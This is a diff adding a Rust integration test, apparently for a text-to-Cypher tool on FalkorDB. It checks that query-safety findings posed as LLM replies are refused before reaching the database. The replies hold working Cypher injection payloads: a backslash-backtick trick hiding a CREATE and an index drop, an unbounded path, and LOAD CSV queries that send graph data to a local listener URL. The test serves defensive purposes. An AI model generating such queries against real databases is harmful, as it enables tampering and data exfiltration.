@@ -219,3 +219,125 @@ async fn the_row_limit_is_written_into_the_query_and_paths_stay_short() {
     assert!(matches!(e, Error::Llm { .. }) && e.to_string().contains("no Cypher"), "{e}");
     provex.delete_graph(&graph).await.unwrap();
 }
+
+/// Every command the shared FalkorDB receives, as `MONITOR` prints them.
+struct Monitor {
+    seen: Arc<Mutex<String>>,
+}
+
+impl Monitor {
+    fn start() -> Monitor {
+        use std::io::{BufRead, Write};
+        let port = common::url().rsplit(':').next().unwrap().trim_end_matches('/').to_owned();
+        let mut stream = std::net::TcpStream::connect(format!("127.0.0.1:{port}")).unwrap();
+        stream.write_all(b"MONITOR\r\n").unwrap();
+        let mut reader = std::io::BufReader::new(stream);
+        let mut ok = String::new();
+        reader.read_line(&mut ok).unwrap();
+        assert!(ok.starts_with("+OK"), "{ok}");
+        let seen = Arc::new(Mutex::new(String::new()));
+        let s = seen.clone();
+        std::thread::spawn(move || {
+            for line in reader.lines() {
+                let Ok(line) = line else { break };
+                s.lock().unwrap().push_str(&line);
+                s.lock().unwrap().push('\n');
+            }
+        });
+        Monitor { seen }
+    }
+
+    /// What the server received until now: a marker sent last is waited for.
+    async fn received(&self, provex: &provex::facade::Provex, graph: &str) -> String {
+        let marker = format!("monitor-marker-{}", std::process::id());
+        provex.query(graph, &format!("RETURN '{marker}'")).await.unwrap();
+        for _ in 0..500 {
+            if self.seen.lock().unwrap().contains(&marker) {
+                return self.seen.lock().unwrap().clone();
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+        }
+        panic!("MONITOR never showed {marker}");
+    }
+}
+
+/// The findings against `ask`'s check, each as a model's reply: a backslash before a
+/// backtick that hid a CREATE and a `db.idx.fulltext.drop` from the check (FalkorDB ends a
+/// quoted name at the next backtick), a variable-length path without a bound spelled
+/// `[IN*]`, and a LOAD CSV that made FalkorDB connect to a listener with graph data in the
+/// URL. Each is refused as `write_refused`, by the check: FalkorDB never receives it (MONITOR
+/// shows none of them) and the listener sees no connection.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ask_refuses_the_findings_before_falkordb_sees_them() {
+    let (provex, graph) = common::open("ask_findings").await;
+    provex.demo_council(&graph, None, Arc::new(AtomicBool::new(false))).await.unwrap();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let pid = std::process::id();
+    let replies = [
+        format!("MATCH (n) WITH n.`x\\` AS y CREATE (:Planted_{pid}) RETURN 1 //`"),
+        format!("MATCH (n) WITH n.`x\\` AS y CALL db.idx.fulltext.drop('Dropped_{pid}') RETURN 1 //`"),
+        format!("MATCH (a)-[IN*]->(b) WHERE a.name <> 'Unbounded_{pid}' RETURN count(b)"),
+        format!(
+            "MATCH (n) WITH n.`x\\` AS y, n LOAD CSV FROM 'https://127.0.0.1:{port}/Loaded_{pid}/' + n.name AS r RETURN r //`"
+        ),
+        format!("MATCH (n) LOAD CSV FROM 'https://127.0.0.1:{port}/Loaded_{pid}/' + n.name AS r RETURN r"),
+    ];
+    let monitor = Monitor::start();
+    let before = count(&provex, &graph).await;
+    let provex = Arc::new(provex);
+    let (running, base) = crate::serve::serve_on(provex.clone(), None).await;
+    let http = reqwest::Client::new();
+    for reply in &replies {
+        let (url, _) = stand_in(completion(&format!("```cypher\n{reply}\n```"))).await;
+        provex.set_llm(Some(config(&url)));
+        let e = provex.ask(&graph, "?").await.unwrap_err();
+        assert!(matches!(e, Error::WriteRefused(_)), "{reply}: {e}");
+        assert!(
+            !e.to_string().contains("FalkorDB refused"),
+            "only the server's read-only mode stopped {reply}: {e}"
+        );
+        let resp = http
+            .post(format!("{base}/api/graphs/{graph}/ask"))
+            .json(&json!({"question": "?"}))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(resp.status().as_u16(), 400, "{reply}");
+        let body: Value = resp.json().await.unwrap();
+        assert_eq!(body["code"], "write_refused", "{reply}: {body}");
+    }
+    // The CLI says so too, and fails.
+    let (url, _) = stand_in(completion(&replies[3])).await;
+    let g = graph.clone();
+    let out = tokio::task::spawn_blocking(move || {
+        assert_cmd::Command::cargo_bin("provex")
+            .unwrap()
+            .args(["--falkordb", common::url(), "ask", "Where do they live?", "--graph", &g])
+            .env("PROVEX_LLM_URL", &url)
+            .env("PROVEX_LLM_MODEL", "stand-in")
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    assert!(!out.status.success());
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("LOAD CSV"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    running.stop().await;
+
+    let received = monitor.received(&provex, &graph).await;
+    for marker in ["Planted_", "Dropped_", "Unbounded_", "Loaded_"] {
+        assert!(!received.contains(&format!("{marker}{pid}")), "FalkorDB received the {marker} query");
+    }
+    listener.set_nonblocking(true).unwrap();
+    assert!(
+        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "something connected to the LOAD CSV listener"
+    );
+    assert_eq!(count(&provex, &graph).await, before);
+    provex.delete_graph(&graph).await.unwrap();
+}
